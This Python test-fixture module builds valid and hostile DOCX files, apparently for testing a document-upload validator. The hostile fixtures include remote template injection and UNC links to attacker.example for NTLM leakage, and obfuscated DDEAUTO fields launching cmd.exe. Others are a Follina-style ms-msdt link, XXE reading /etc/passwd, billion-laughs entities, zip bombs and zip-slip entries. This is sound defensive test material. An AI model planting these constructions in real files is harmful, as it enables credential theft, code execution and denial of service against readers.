"""DOCX files, good and hostile: parts, relationships, fields and the ZIP tricks a Word
document can hide."""

from __future__ import annotations

import dataclasses
import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from xml.sax.saxutils import escape

from tests.hostile.archives import S_IFLNK, RawZipEntry, build_zip, plain_zip, raw_entry

# --------------------------------------------------------------------------------------------
# DOCX building blocks
# --------------------------------------------------------------------------------------------

MAIN_CONTENT_TYPE = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
MACRO_MAIN_CONTENT_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_MAIN_CONTENT_TYPE = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def content_types_xml(
    overrides: Mapping[str, str] | None = None, defaults: Mapping[str, str] | None = None
) -> bytes:
    """``[Content_Types].xml`` declaring ``rels``/``xml`` defaults and the main document part."""
    all_defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        **(defaults or {}),
    }
    all_overrides = {"/word/document.xml": MAIN_CONTENT_TYPE, **(overrides or {})}
    rows = [f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in all_defaults.items()]
    rows += [f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in all_overrides.items()]
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(rows)
        + "</Types>"
    ).encode()


def relationships_xml(*relationships: tuple[str, str, str | None]) -> bytes:
    """A ``.rels`` part from ``(type suffix or full type URI, target, target mode)`` triples."""
    rows = []
    for number, (kind, target, mode) in enumerate(relationships, start=1):
        rel_type = kind if "://" in kind else f"{REL}/{kind}"
        mode_attr = f' TargetMode="{mode}"' if mode else ""
        rows.append(
            f'<Relationship Id="rId{number}" Type="{rel_type}" Target="{target}"{mode_attr}/>'
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    ).encode()


def document_xml(body: str | None = None) -> bytes:
    """``word/document.xml`` with a name, a line of text and a hyperlink (relationship rId1)."""
    if body is None:
        body = (
            "<w:p><w:r><w:t>Jane Doe</w:t></w:r></w:p>"
            "<w:p><w:r><w:t>Senior engineer, ten years of Python.</w:t></w:r></w:p>"
            '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>LinkedIn profile</w:t></w:r>'
            "</w:hyperlink></w:p>"
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{REL}"><w:body>{body}</w:body></w:document>'
    ).encode()


WORDML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
HEADER_CONTENT_TYPE = f"{WORDML}.header+xml"
FOOTER_CONTENT_TYPE = f"{WORDML}.footer+xml"


def field_runs(*code: str, result: str = "") -> str:
    """The runs of a complex field: begin, its code split into one ``w:instrText`` run per
    piece of ``code`` (as Word splits it after edits), separate, ``result`` and end. XML
    special characters in ``code`` must already be escaped."""
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + pieces
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + f"<w:r><w:t>{result}</w:t></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def story_xml(root: str, body: str) -> bytes:
    """A header (``root="hdr"``), footer (``"ftr"``), settings... part holding ``body``."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:{root} xmlns:w="{W_NS}" xmlns:r="{REL}">{body}</w:{root}>'
    ).encode()


MC_NS = "http://schemas.openxmlformats.org/markup-compatibility/2006"
VML_NS = "urn:schemas-microsoft-com:vml"
WPS_NS = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"


def text_box_with_fallback(content: str) -> str:
    """A text box holding ``content`` as Word writes it: an ``mc:AlternateContent`` whose
    Choice is for Word 2010 and later and whose Fallback (VML, for older readers) repeats the
    content. Shape details Word needs to draw it are left out; they change nothing here."""
    return (
        f'<mc:AlternateContent xmlns:mc="{MC_NS}" xmlns:v="{VML_NS}" xmlns:wps="{WPS_NS}">'
        f'<mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>{content}'
        "</w:txbxContent></wps:txbx></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict><v:textbox><w:txbxContent>{content}</w:txbxContent>"
        "</v:textbox></w:pict></mc:Fallback></mc:AlternateContent>"
    )


def docx_with_field(*code: str) -> bytes:
    """A valid DOCX whose body holds one complex field with ``code`` split over runs."""
    return _docx_with({"word/document.xml": document_xml(f"<w:p>{field_runs(*code)}</w:p>")})


def _docx_with_story(
    relationship: str, target: str, data: bytes, *, overrides: Mapping[str, str] | None = None
) -> bytes:
    """A valid DOCX whose document links a header, footer... part stored at ``word/<target>``."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(overrides)
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        (relationship, target, None),
    )
    parts[f"word/{target}"] = data
    return build_docx(parts)


def valid_docx_parts(text: str | None = None) -> dict[str, bytes]:
    """The parts of a minimal valid DOCX, for tests to alter before ``build_docx``; with
    ``text``, its body is that text instead (a paragraph per line, XML-escaped)."""
    return {
        "[Content_Types].xml": content_types_xml(),
        "_rels/.rels": relationships_xml(("officeDocument", "word/document.xml", None)),
        "word/document.xml": document_xml(None if text is None else _paragraphs(text)),
        "word/_rels/document.xml.rels": relationships_xml(
            ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External")
        ),
    }


def build_docx(parts: Mapping[str, bytes]) -> bytes:
    """Zip ``parts`` (name -> bytes) with zipfile, the way Word's own writer lays them out."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _docx_with(extra: Mapping[str, bytes]) -> bytes:
    return build_docx({**valid_docx_parts(), **extra})


def _raw_docx(*extra: RawZipEntry, parts: Mapping[str, bytes] | None = None) -> bytes:
    """A valid DOCX written with ``build_zip``, followed by ``extra`` raw entries."""
    base = parts if parts is not None else valid_docx_parts()
    return build_zip([*(raw_entry(n, d) for n, d in base.items()), *extra])


# --------------------------------------------------------------------------------------------
# Good DOCX files
# --------------------------------------------------------------------------------------------


def valid_docx(text: str | None = None) -> bytes:
    """A minimal valid DOCX with some text (or ``text``) and one external hyperlink (which
    must pass: CVs link to LinkedIn and portfolios, and Word never fetches hyperlinks by
    itself)."""
    return build_docx(valid_docx_parts(text))


def _paragraphs(text: str) -> str:
    return "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(line)}</w:t></w:r></w:p>'
        for line in text.splitlines()
    )


def _docx_with_template(target: str) -> bytes:
    parts = valid_docx_parts()
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="{W_NS}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/>'
        "</w:settings>"
    ).encode()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", target, "External")
    )
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("settings", "settings.xml", None),
    )
    return build_docx(parts)


def valid_docx_from_office_template() -> bytes:
    """A DOCX made from one of Word's own resume templates: settings.xml.rels names the
    template by file name, marked External. Word looks it up locally and fetches nothing."""
    return _docx_with_template("TM16392910[[fn=Polished resume]].dotx")


def valid_docx_from_local_template() -> bytes:
    """A DOCX made from a template on the author's own disk (a local drive path)."""
    return _docx_with_template(
        "file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\CV.dotx"
    )


def valid_docx_with_printer_settings() -> bytes:
    """A DOCX carrying Word's printer settings part: a ``.bin`` that is data, not code."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        defaults={
            "bin": "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"
        }
    )
    parts["word/printerSettings/printerSettings1.bin"] = b"\x00" * 220
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("printerSettings", "printerSettings/printerSettings1.bin", None),
    )
    return build_docx(parts)


def valid_docx_with_stale_ole_declaration() -> bytes:
    """A DOCX whose content types still declare OLE objects (``Default Extension="bin"``)
    after the object itself was deleted: Word leaves such declarations behind."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        defaults={"bin": "application/vnd.openxmlformats-officedocument.oleObject"}
    )
    return build_docx(parts)


def valid_docx_with_page_field() -> bytes:
    """A DOCX with an ordinary PAGE field in its footer text (fields are not all commands)."""
    body = (
        "<w:p><w:r><w:t>Page </w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


def valid_docx_with_ordinary_fields() -> bytes:
    """A CV with the fields real CVs carry: "Page X of Y" in its footer (one simple field),
    a table of contents, a HYPERLINK field to a profile and one to a bookmark, a
    cross-reference, a formula over a nested PAGE field, a long Zotero citation whose data
    holds URLs and the words "link" and "data" (add-in data Word never acts on), and a DATE
    field in a text box (written twice, for new and old versions of Word)."""
    citation = (
        "ADDIN ZOTERO_ITEM CSL_CITATION {&quot;citationItems&quot;:[{&quot;uris&quot;:"
        "[&quot;http://zotero.org/users/1/items/ABCD&quot;],&quot;itemData&quot;:{&quot;title"
        "&quot;:&quot;Link prediction with data import&quot;,&quot;URL&quot;:&quot;"
        "https://doi.org/10.1000/xyz&quot;,&quot;abstract&quot;:&quot;"
        + "We study link prediction. " * 800  # 20 000 characters: citation data runs long
        + "&quot;}}]}"
    )
    date = " DATE \\@ &quot;MMMM yyyy&quot; "
    body = (
        "<w:p>"
        + field_runs(' TOC \\o "1-3" \\h \\z \\u ', result="Experience")
        + "</w:p><w:p>"
        + field_runs(" HYPERLINK ", '"https://github.com/jane-doe"', result="GitHub")
        + field_runs(' HYPERLINK \\l "_Experience" \\o "Jump to experience" ')
        + field_runs(" REF _Ref12345 \\h ", result="Experience")
        + "</w:p><w:p>"
        + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + '<w:r><w:instrText xml:space="preserve"> = </w:instrText></w:r>'
        + field_runs(" PAGE ", result="1")
        + '<w:r><w:instrText xml:space="preserve"> + 1 </w:instrText></w:r>'
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>2</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        + "</w:p><w:p>"
        + field_runs(citation, result="(Doe, 2021)")
        + "</w:p><w:p><w:r>"
        + text_box_with_fallback(f"<w:p>{field_runs(date)}</w:p>")
        + "</w:r></w:p>"
    )
    footer = story_xml(
        "ftr",
        '<w:p><w:r><w:t xml:space="preserve">Page </w:t></w:r>'
        '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
        '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
        + field_runs(" NUMPAGES ", result="2")
        + "</w:p>",
    )
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml({"/word/footer1.xml": FOOTER_CONTENT_TYPE})
    parts["word/document.xml"] = document_xml(body)
    parts["word/footer1.xml"] = footer
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("footer", "footer1.xml", None),
    )
    return build_docx(parts)


def valid_docx_with_main_part_named_dat() -> bytes:
    """A plain CV whose main part is ``word/document.dat``: Word finds it through
    ``_rels/.rels`` and knows it by its declared content type, not its name."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml({"/word/document.dat": MAIN_CONTENT_TYPE})
    parts["_rels/.rels"] = relationships_xml(("officeDocument", "word/document.dat", None))
    parts["word/document.dat"] = parts.pop("word/document.xml")
    parts["word/_rels/document.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
    return build_docx(parts)


def valid_docx_with_svg_logo() -> bytes:
    """A CV with an SVG logo as Illustrator exports it, DOCTYPE and entities included: Word
    draws it as a picture and never reads it as a document."""
    svg = (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" '
        b'[<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n'
        b'<svg xmlns="&ns_svg;" width="10" height="10"><rect width="10" height="10"/></svg>'
    )
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(defaults={"svg": "image/svg+xml"})
    parts["word/media/image1.svg"] = svg
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("image", "media/image1.svg", None),
    )
    return build_docx(parts)


# --------------------------------------------------------------------------------------------
# Hostile DOCX files
# --------------------------------------------------------------------------------------------


def docx_plain_zip() -> bytes:
    """An ordinary ZIP archive renamed ``.docx``: no ``[Content_Types].xml``."""
    return plain_zip()


def docx_macro_enabled_content_type() -> bytes:
    """A macro-enabled document (.docm) renamed .docx: the main part says so."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/document.xml": MACRO_MAIN_CONTENT_TYPE}
    )
    return build_docx(parts)


def docx_template_content_type() -> bytes:
    """A Word template (.dotx) renamed .docx."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/document.xml": TEMPLATE_MAIN_CONTENT_TYPE}
    )
    return build_docx(parts)


def docx_vba_project() -> bytes:
    """A DOCX carrying a VBA macro project."""
    return _docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504})


def docx_activex_control() -> bytes:
    """A DOCX with an ActiveX control part."""
    return _docx_with(
        {
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
            "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60,
        }
    )


def docx_embedded_ole_object() -> bytes:
    """A DOCX with an embedded OLE object (the classic vehicle for packaged executables)."""
    return _docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})


def docx_ole_object_by_content_type() -> bytes:
    """An OLE object under an innocent name, declared as one only by its content type."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/media/object1.dat": "application/vnd.openxmlformats-officedocument.oleObject"}
    )
    parts["word/media/object1.dat"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    return build_docx(parts)


def docx_macros_by_content_type() -> bytes:
    """A VBA project under an innocent name, declared as one only by its content type."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/media/data.dat": "application/vnd.ms-office.vbaProject"}
    )
    parts["word/media/data.dat"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    return build_docx(parts)


def docx_internal_ole_object_relationship() -> bytes:
    """An OLE object disguised under an innocent part name; only its relationship type
    (and its content type) say what it is."""
    parts = valid_docx_parts()
    parts["word/media/image2.png"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("oleObject", "media/image2.png", None),
    )
    return build_docx(parts)


def docx_altchunk_relationship() -> bytes:
    """An ``aFChunk`` (altChunk): Word imports and renders another document (HTML/MHT/RTF)."""
    parts = valid_docx_parts()
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>"
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("aFChunk", "afchunk.mht", None),
    )
    return build_docx(parts)


def docx_template_injection() -> bytes:
    """Remote template injection: Word fetches the "attached template" from the attacker's
    server on open (and may run its macros or leak NTLM credentials)."""
    parts = valid_docx_parts()
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="{W_NS}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/>'
        "</w:settings>"
    ).encode()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", "https://evil.example/template.dotm", "External")
    )
    return build_docx(parts)


def docx_external_image() -> bytes:
    """A linked (not embedded) picture: fetched on open, so it works as a tracking beacon."""
    parts = valid_docx_parts()
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("image", "https://tracker.example/pixel.png", "External"),
    )
    return build_docx(parts)


def docx_url_target_without_external_mode() -> bytes:
    """A remote template whose relationship omits ``TargetMode`` (so looks internal)."""
    parts = valid_docx_parts()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", "\\\\attacker.example\\share\\t.dotm", None)
    )
    return build_docx(parts)


def docx_unc_path_template() -> bytes:
    """An attached template on a network share: Word connects (leaking NTLM hashes)."""
    parts = valid_docx_parts()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", "file://attacker.example/share/t.dotm", "External")
    )
    return build_docx(parts)


def docx_javascript_hyperlink() -> bytes:
    """A hyperlink to a ``javascript:`` URL."""
    parts = valid_docx_parts()
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "javascript:alert(document.domain)", "External")
    )
    return build_docx(parts)


def docx_protocol_handler_hyperlink() -> bytes:
    """A hyperlink to an OS protocol handler (the Follina ``ms-msdt:`` family)."""
    parts = valid_docx_parts()
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", "External")
    )
    return build_docx(parts)


def docx_billion_laughs_rels() -> bytes:
    """A ``.rels`` part with a DTD defining exponentially expanding entities."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    rels = (
        f'<?xml version="1.0"?><!DOCTYPE Relationships [{entities}]>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"'
        ' Description="&lol9;"/></Relationships>'
    ).encode()
    parts = valid_docx_parts()
    parts["_rels/.rels"] = rels
    return build_docx(parts)


def docx_xxe_document() -> bytes:
    """``word/document.xml`` with an external entity (XXE) pointing at a local file."""
    parts = valid_docx_parts()
    parts["word/document.xml"] = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    return build_docx(parts)


def docx_dde_field() -> bytes:
    """A DDEAUTO field split across runs ("DD" + "EAUTO ..."): Word joins the pieces and
    offers to run the command when the document is opened."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
        ' "/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


# Files on a network share, as written in a field's code (backslashes doubled):
# \\attacker.example\share\cv.docx and so on.
_UNC_DOCX = r"\\\\attacker.example\\share\\cv.docx"
_UNC_XLSX = r"\\\\attacker.example\\share\\cv.xlsx"
_UNC_PDF = r"\\\\attacker.example\\share\\cv.pdf"
_DDE_COMMAND = r"c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;"


def docx_dde_field_in_main_part_named_dat() -> bytes:
    """A DDEAUTO field in a main document named ``word/document.dat``: declared by an
    Override content type and found through ``_rels/.rels``, so Word opens it as the
    document, while a check choosing parts by the ``.xml`` extension never reads it."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml({"/word/document.dat": MAIN_CONTENT_TYPE})
    parts["_rels/.rels"] = relationships_xml(("officeDocument", "word/document.dat", None))
    parts["word/document.dat"] = document_xml(
        f"<w:p>{field_runs(' DDEAUTO ' + _DDE_COMMAND)}</w:p>"
    )
    del parts["word/document.xml"]
    parts["word/_rels/document.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
    return build_docx(parts)


def docx_includepicture_field_remote() -> bytes:
    """A linked picture as a field (``\\d``: not stored, fetched on every update), its name
    in mixed case and split over runs: a tracking hit each time the CV is opened."""
    return docx_with_field(" includeP", 'icture  "https://tracker.example/cv-opened.png" \\d ')


def docx_includetext_field_unc_in_header() -> bytes:
    """An INCLUDETEXT field in a header that pulls in a document from a network share:
    Windows connects to the attacker's server with the reader's NTLM credentials."""
    header = story_xml("hdr", f"<w:p>{field_runs(' INCLUDETEXT ' + _UNC_DOCX)}</w:p>")
    return _docx_with_story(
        "header", "header1.xml", header, overrides={"/word/header1.xml": HEADER_CONTENT_TYPE}
    )


def docx_link_field_unc() -> bytes:
    """A LINK field (an OLE link) to a workbook on a network share, updated automatically
    (``\\a``), written as a simple field."""
    instr = f" LINK Excel.Sheet.12 &quot;{_UNC_XLSX}&quot; &quot;Sheet1!R1C1&quot; \\a \\f 0 "
    body = f'<w:p><w:fldSimple w:instr="{instr}"><w:r><w:t>42</w:t></w:r></w:fldSimple></w:p>'
    return _docx_with({"word/document.xml": document_xml(body)})


def docx_import_field_in_footer_named_dat() -> bytes:
    """An IMPORT field (a picture read from a URL) in a footer named ``footer1.dat``,
    declared as a footer by an Override content type."""
    instr = " IMPORT &quot;https://tracker.example/logo.png&quot; "
    footer = story_xml("ftr", f'<w:p><w:fldSimple w:instr="{instr}"/></w:p>')
    return _docx_with_story(
        "footer", "footer1.dat", footer, overrides={"/word/footer1.dat": FOOTER_CONTENT_TYPE}
    )


def docx_header_declared_as_image() -> bytes:
    """A header part stored as ``media/image2.png`` (so its content type says PNG) holding a
    DDEAUTO field: the document's relationship still makes Word read it as a header."""
    header = story_xml("hdr", f"<w:p>{field_runs(' DDEAUTO ' + _DDE_COMMAND)}</w:p>")
    return _docx_with_story("header", "media/image2.png", header)


def docx_field_name_computed_by_nested_field() -> bytes:
    """A field whose name is "DD", then a nested QUOTE field's result ("E"), then "AUTO":
    Word splices the pieces into DDEAUTO when it updates the field."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        + field_runs(" QUOTE &quot;E&quot; ", result="E")
        + f'<w:r><w:instrText xml:space="preserve">AUTO {_DDE_COMMAND}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


def docx_dde_field_split_across_paragraphs() -> bytes:
    """A DDEAUTO field whose code runs on into the next paragraph ("DD" | "EAUTO ...")."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText xml:space="preserve">EAUTO {_DDE_COMMAND}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


def docx_hyperlink_field_unc() -> bytes:
    """A HYPERLINK field to a network share: one click sends the reader's NTLM hash."""
    return docx_with_field(f' HYPERLINK "{_UNC_PDF}" ')


_MAIL_MERGE = (
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
    '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;'
    'Data Source=\\\\attacker.example\\share\\people.xlsx"/>'
    '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'
)


def docx_mail_merge_connection_string() -> bytes:
    """A mail-merge main document whose connection string names a workbook on a network
    share: on open Word offers to run its query, and connects if the reader agrees."""
    parts = valid_docx_parts()
    parts["word/settings.xml"] = story_xml("settings", _MAIL_MERGE)
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("settings", "settings.xml", None),
    )
    return build_docx(parts)


def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """Deflate ``size`` zero bytes without ever holding them: one MiB block is compressed and
    flushed (which resets the compressor), so every further MiB compresses to the same bytes."""
    block_size = 1024 * 1024
    if size % block_size:
        raise ValueError("size must be a whole number of MiB")
    zeros = bytes(block_size)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(size // block_size):
        crc = zlib.crc32(zeros, crc)
    return block * (size // block_size) + end, crc


def _docx_with_zero_entry(size: int) -> bytes:
    payload, crc = _zeros_deflated(size)
    bomb = RawZipEntry(
        name=b"word/media/image1.png", payload=payload, file_size=size, crc=crc, flags=0x800
    )
    return _raw_docx(bomb)


@functools.cache
def docx_zip_bomb() -> bytes:
    """A ~200 KB DOCX with a 200 MiB entry (all zeros)."""
    return _docx_with_zero_entry(200 * 1024 * 1024)


@functools.cache
def docx_compression_ratio_bomb() -> bytes:
    """A DOCX within the total size limit whose one entry expands ~1000:1."""
    return _docx_with_zero_entry(20 * 1024 * 1024)


def docx_overlapping_entries_same_offset() -> bytes:
    """Fifty central-directory entries pointing at one local entry (the CVE-2024-0450
    family): a 1 KB kernel counted as 51 MiB, which Python 3.11's zipfile happily reads."""
    payload, crc = _zeros_deflated(1024 * 1024)
    kernel = RawZipEntry(
        name=b"word/media/k.png", payload=payload, file_size=1024 * 1024, crc=crc, flags=0x800
    )
    ghosts = [
        dataclasses.replace(
            kernel, name=b"word/media/k%d.png" % i, header_offset=0, write_local=False
        )
        for i in range(50)
    ]
    valid = [raw_entry(name, data) for name, data in valid_docx_parts().items()]
    return build_zip([kernel, *valid, *ghosts])


def docx_hidden_data_between_entries() -> bytes:
    """An HTML page stored as a local ZIP record that the central directory never lists:
    invisible to zipfile, found by tools that scan local headers."""
    hidden = raw_entry("index.html", b"<script>alert(1)</script>", in_central_directory=False)
    entries = [raw_entry(name, data) for name, data in valid_docx_parts().items()]
    return build_zip([entries[0], hidden, *entries[1:]])


def docx_overlapping_entries_quoted() -> bytes:
    """An entry whose declared compressed data runs over the next entry's local header
    (the "quoted overlap" construction behind non-recursive zip bombs)."""
    data = bytearray(_raw_docx())
    first = data.index(b"PK\x01\x02")  # the first central-directory record
    (compressed_size,) = struct.unpack_from("<L", data, first + 20)
    struct.pack_into("<L", data, first + 20, compressed_size + 64)
    return bytes(data)


def _named_docx(name: bytes, **overrides: object) -> bytes:
    return _raw_docx(raw_entry(name, b"<x/>", **overrides))


def docx_zip_slip_parent() -> bytes:
    """An entry that would be extracted two directories above the target (zip slip)."""
    return _named_docx(b"../../evil.xml")


def docx_zip_slip_absolute() -> bytes:
    """An entry with an absolute path."""
    return _named_docx(b"/etc/passwd")


def docx_zip_slip_drive_letter() -> bytes:
    """An entry with a Windows drive letter."""
    return _named_docx(b"C:\\x")


def docx_backslash_name() -> bytes:
    """A backslash path: a directory separator on Windows, a plain character elsewhere."""
    return _named_docx(b"word\\..\\..\\evil.xml")


def docx_nul_in_name() -> bytes:
    """A NUL byte in a name: Python's zipfile silently truncates it to ``word/evil.xml``."""
    return _named_docx(b"word/evil.xml\x00.exe")


def docx_symlink_entry() -> bytes:
    """An entry marked as a Unix symbolic link to /etc/passwd."""
    return _named_docx(b"word/link.xml", external_attr=(S_IFLNK | 0o777) << 16)


def docx_duplicate_names() -> bytes:
    """Two entries with the same name: different tools read different ones."""
    return _raw_docx(raw_entry("word/document.xml", document_xml("<w:p/>")))


def docx_case_insensitive_duplicate() -> bytes:
    """Two content-type parts differing only in case (Office part names ignore case)."""
    return _raw_docx(raw_entry("[content_types].xml", content_types_xml()))


def docx_too_many_entries() -> bytes:
    """Two thousand tiny entries."""
    extra = {f"customXml/item{i}.xml": b"<a/>" for i in range(2000)}
    return _docx_with(extra)


def docx_encrypted_entry() -> bytes:
    """An entry flagged as ZIP-encrypted (Word never writes these)."""
    return _named_docx(b"word/secret.xml", flags=0x801)


def docx_trailing_html() -> bytes:
    """A valid DOCX with an HTML page appended after the ZIP end record."""
    return valid_docx() + b"<html><script>alert(1)</script></html>"


def docx_truncated() -> bytes:
    """The first half of a valid DOCX (its central directory is gone)."""
    data = valid_docx()
    return data[: len(data) // 2]


def docx_missing_main_part() -> bytes:
    """Content types and relationships that name a main document the archive lacks."""
    parts = valid_docx_parts()
    del parts["word/document.xml"]
    return build_docx(parts)
